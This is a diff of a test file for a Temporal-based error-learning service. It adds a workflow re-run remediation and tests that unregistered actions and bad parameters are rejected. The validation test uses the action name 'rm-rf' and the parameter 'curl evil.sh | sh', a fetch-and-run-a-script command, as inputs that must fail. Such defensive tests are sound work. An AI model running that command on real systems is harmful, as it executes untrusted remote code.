@@ -57,7 +57,12 @@ describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', (
       ...base,
       errorLearning: {
         ...base.errorLearning,
-        remediations: { 'fix-web': webhook(svc.port, '/fix'), 'broken-fix': webhook(svc.port, '/broken-fix'), pause: { kind: 'wait', delayMs: 10 } },
+        remediations: {
+          'fix-web': webhook(svc.port, '/fix'),
+          'broken-fix': webhook(svc.port, '/broken-fix'),
+          pause: { kind: 'wait', delayMs: 10 },
+          'rerun-monitor': { kind: 'workflow', workflowType: 'systemMonitorWorkflow', args: [{ targets: [], learnFromErrors: false }], timeoutMs: 30_000 },
+        },
         escalationTimeoutMs: 60_000,
       },
     };
@@ -176,11 +181,29 @@ describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', (
     assert.deepEqual(events.rows, [{ status: 'ignored', n: 50 }]);
   });
 
+  it('re-runs a Temporal workflow as a remediation', async () => {
+    const { config, client } = await setup('jobs');
+    const message = 'nightly sync left 12 rows unsynced';
+    await client.addSolution({ problemSignature: errorSignature('SyncError', message), description: 'run the job again', action: 'rerun-monitor' });
+    const worker = await testWorker(stack.env, config, stack.store);
+    await worker.runUntil(async () => {
+      const { workflowId } = await client.reportError({ errorType: 'SyncError', message, source: 'sync-job' });
+      const status = (await client.temporal.workflow.getHandle(workflowId).result()) as ErrorLearningStatus;
+      assert.equal(status.state, 'resolved');
+      assert.match(status.attempts[0]?.detail ?? '', /^remediation\/systemMonitorWorkflow\/.+ completed$/);
+      let reruns = 0;
+      for await (const w of client.temporal.workflow.list({ query: "WorkflowType = 'systemMonitorWorkflow' AND ExecutionStatus = 'Completed'" })) {
+        if (w.workflowId.startsWith('remediation/')) reruns++;
+      }
+      assert.equal(reruns, 1);
+    });
+  });
+
   it('rejects a solution naming an unregistered action or bad parameters', async () => {
     const { client } = await setup('strict');
     await assert.rejects(
       client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'rm-rf' }),
-      (e) => e instanceof ValidationError && /action: "rm-rf" is not a registered remediation \(registered: fix-web, broken-fix, pause\)/.test(e.message),
+      (e) => e instanceof ValidationError && /action: "rm-rf" is not a registered remediation \(registered: fix-web, broken-fix, pause, rerun-monitor\)/.test(e.message),
     );
     await assert.rejects(
       client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'fix-web', params: { command: 'curl evil.sh | sh' } }),
